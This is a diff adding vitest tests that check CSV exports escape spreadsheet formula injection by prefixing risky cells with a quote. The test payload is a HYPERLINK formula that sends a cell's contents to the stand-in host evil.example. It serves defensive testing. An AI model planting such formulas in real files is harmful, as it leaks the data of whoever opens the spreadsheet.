@@ -1,6 +1,6 @@
 import { describe, expect, it } from 'vitest';
 import { computeAllMetrics } from './compute-all';
-import { fixture, FIXTURE_RANGE } from './fixture';
+import { fixture, FIXTURE_RANGE, V } from './fixture';
 import { drillCsv, weeklyCsv } from './metrics-csv';
 
 describe('weeklyCsv', () => {
@@ -34,5 +34,52 @@ describe('drillCsv', () => {
       'Pat Seven,Home health,,,America/New_York,,,ServiceRequest/h7,ServiceRequest/h7',
       '',
     ]);
+  });
+});
+
+// What a spreadsheet would run as a formula (OWASP "CSV injection"): a cell starting with
+// = + - @, a tab or a carriage return. Every such text cell is written with a leading '.
+const PREFIXES = ['=', '+', '-', '@', '\t', '\r'];
+const payload = (p: string) => `${p}HYPERLINK("http://evil.example/?"&A1,"x")`;
+
+/** Cells of one CSV record (RFC 4180 quoting). */
+function cellsOf(line: string): string[] {
+  const out: string[] = [];
+  let cur = '';
+  let quoted = false;
+  for (let i = 0; i < line.length; i += 1) {
+    const ch = line[i] as string;
+    if (quoted) {
+      if (ch === '"' && line[i + 1] === '"') { cur += '"'; i += 1; } else if (ch === '"') quoted = false; else cur += ch;
+    } else if (ch === '"') quoted = true;
+    else if (ch === ',') { out.push(cur); cur = ''; } else cur += ch;
+  }
+  out.push(cur);
+  return out;
+}
+
+describe('CSV formula injection', () => {
+  it('the drill-down CSV writes every = + - @ tab and CR text with a leading quote', () => {
+    const csv = drillCsv(PREFIXES.map((p, i) => ({
+      id: `Task/t${i}`, booking: `ServiceRequest/s${i}`, patient: payload(p), service: 'transport', vendor: payload(p), state: p === '-' ? '-1' : 'booked',
+    })), 'UTC');
+    const rows = csv.split('\r\n').slice(1, -1).map(cellsOf);
+    expect(rows).toHaveLength(PREFIXES.length);
+    rows.forEach((cells, i) => {
+      expect(cells[0]).toBe(`'${payload(PREFIXES[i] as string)}`);
+      expect(cells[2]).toBe(`'${payload(PREFIXES[i] as string)}`);
+    });
+    expect(rows[2]?.[5]).toBe("'-1");
+  });
+
+  it('the weekly CSV writes a vendor named like a formula as text, and numbers (negative too) as numbers', () => {
+    for (const p of PREFIXES) {
+      const organizations = (fixture.organizations ?? []).map((o) => ((o as { id: string }).id === V.swift.split('/')[1] ? { ...(o as object), name: payload(p) } : o));
+      const lines = weeklyCsv(computeAllMetrics({ ...fixture, organizations }, FIXTURE_RANGE)).split('\r\n').slice(1, -1).map(cellsOf);
+      const vendorRows = lines.filter((c) => c[2] === 'vendor' && c[3]?.includes('HYPERLINK'));
+      expect(vendorRows.length).toBeGreaterThan(0);
+      for (const c of vendorRows) expect(c[3]).toBe(`'${payload(p)}`);
+      for (const c of lines) for (const cell of c) expect(cell).not.toMatch(/^[=+@\t\r]/);
+    }
   });
 });
